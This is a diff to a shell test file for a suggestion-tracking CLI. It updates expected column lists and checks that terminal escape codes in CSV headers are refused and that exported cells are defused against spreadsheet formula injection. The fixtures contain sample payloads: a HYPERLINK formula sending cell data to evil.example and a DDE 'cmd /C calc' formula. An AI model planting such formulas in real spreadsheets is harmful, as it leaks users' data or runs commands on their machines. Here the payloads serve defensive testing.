@@ -28,7 +28,7 @@ load helper
 	jianyi: evil.csv: 1 bad row; nothing imported
 	EOF2
 	printf '\033[1;31mFAKE\033[0m,标题\n' >evil2.csv
-	refused 1 "evil2.csv:1: unknown header '\\x1b[1;31mFAKE\\x1b[0m' (known: number, received_on, station, source, title, content, category, submitter, phone, lead_deputy, cosigners, department, co_departments, assigned_on, due_on, replied_on, class, reply, rated_on, rating, handler, contacts, note, no); --skip-unknown-columns imports the other columns" \
+	refused 1 "evil2.csv:1: unknown header '\\x1b[1;31mFAKE\\x1b[0m' (known: number, received_on, station, source, title, content, category, submitter, phone, lead_deputy, cosigners, department, co_departments, assigned_on, due_on, replied_on, class, reply, rated_on, rating, handler, contacts, note, reply_department, signed, supervisor, supervised_on, merged_into, not_accepted, recurring, no); --skip-unknown-columns imports the other columns" \
 	    import suggestions evil2.csv
 }
 
@@ -87,8 +87,8 @@ load helper
 	j add --title '-2' --category "'a" --date 2023-01-06 >/dev/null
 	run j export suggestions --with-personal-data
 	[ "$status" -eq 0 ]
-	[ "${lines[1]}" = $'2023-0001,2023-01-05,,其他,"\'=HYPERLINK(""http://evil.example/?""&B2,""详情"")",\'\'=已有撇号,\'=cmd|\'/C calc\'!A0,\'@李四,\'+86 139 1111 2222,,,,,,,,,,,,,,\r' ] || { echo "${lines[1]}" | cat -A; return 1; }
-	[ "${lines[2]}" = $'2023-0002,2023-01-06,,其他,-2,,\'a,,,,,,,,,,,,,,,,\r' ] || { echo "${lines[2]}" | cat -A; return 1; }
+	[ "${lines[1]}" = $'2023-0001,2023-01-05,,其他,"\'=HYPERLINK(""http://evil.example/?""&B2,""详情"")",\'\'=已有撇号,\'=cmd|\'/C calc\'!A0,\'@李四,\'+86 139 1111 2222,,,,,,,,,,,,,,,,,,,,,\r' ] || { echo "${lines[1]}" | cat -A; return 1; }
+	[ "${lines[2]}" = $'2023-0002,2023-01-06,,其他,-2,,\'a,,,,,,,,,,,,,,,,,,,,,,,\r' ] || { echo "${lines[2]}" | cat -A; return 1; }
 	printf '%s\n' "$output" >all.csv
 	run j list --format csv
 	[ "${lines[1]}" = $'2023-0001,registered,0,2023-01-05,,,,\'@**,"\'=HYPERLINK(""http://evil.example/?""&B2,""详情"")"\r' ] || { echo "${lines[1]}" | cat -A; return 1; }
